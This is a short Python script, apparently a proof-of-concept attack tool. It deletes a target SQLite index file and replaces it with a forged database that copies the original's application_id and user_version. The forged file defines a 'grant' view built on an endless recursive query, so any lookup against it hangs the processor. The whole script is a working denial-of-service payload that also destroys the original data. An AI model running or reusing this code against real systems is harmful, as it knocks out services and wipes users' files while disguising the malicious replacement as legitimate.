"""
Puts an index in the place of another that keeps the processor busy without end, whatever is looked up in it.

    endless_index.py FILE
"""

import os
import sqlite3
import sys

file = sys.argv[1]
old = sqlite3.connect(file)
marks = {name: old.execute(f"PRAGMA {name}").fetchone()[0] for name in ("application_id", "user_version")}
os.remove(file)
new = sqlite3.connect(file)
for name, value in marks.items():
    new.execute(f"PRAGMA {name} = {value}")
new.executescript("""
CREATE TABLE role (name, arguments, walled, deletions);
INSERT INTO role VALUES ('none', '[]', 0, '');
CREATE TABLE account (name, repository, quota, archived);
INSERT INTO account VALUES ('web', null, null, null);
CREATE VIEW grant AS WITH RECURSIVE n (role) AS (SELECT 0 UNION ALL SELECT role + 1 FROM n)
  SELECT role, '' AS type, '' AS blob, '' AS addresses, '' AS expires, 'web' AS account, 'x' AS fingerprint FROM n
""")
